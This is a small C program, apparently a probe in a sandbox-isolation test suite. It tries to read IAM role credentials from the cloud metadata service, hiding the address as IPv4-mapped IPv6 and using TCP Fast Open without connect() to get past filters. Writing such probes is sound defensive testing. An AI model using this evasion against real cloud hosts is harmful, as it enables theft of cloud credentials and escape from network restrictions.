#include "attempt.h"

#define REQUEST "GET /latest/meta-data/iam/security-credentials/corpus-role HTTP/1.0\r\n\r\n"

/* IPv4 in IPv6, and no connect(2): the first data opens the connection (tcp(7), MSG_FASTOPEN). */
int main(void) {
    char answer[512] = "";
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons(80)};
    struct timeval limit = {3, 0};
    inet_pton(AF_INET6, "::ffff:a9fe:a9fe", &to.sin6_addr);
    int fd = socket(AF_INET6, SOCK_STREAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    if (attempt("sendto", sendto(fd, REQUEST, strlen(REQUEST), MSG_FASTOPEN, (void *)&to, sizeof to)) < 0)
        return finish();
    if (recv(fd, answer, sizeof answer - 1, MSG_WAITALL) > 0 && strstr(answer, "FAKE-METADATA"))
        effect("credentials read from metadata");
    return finish();
}
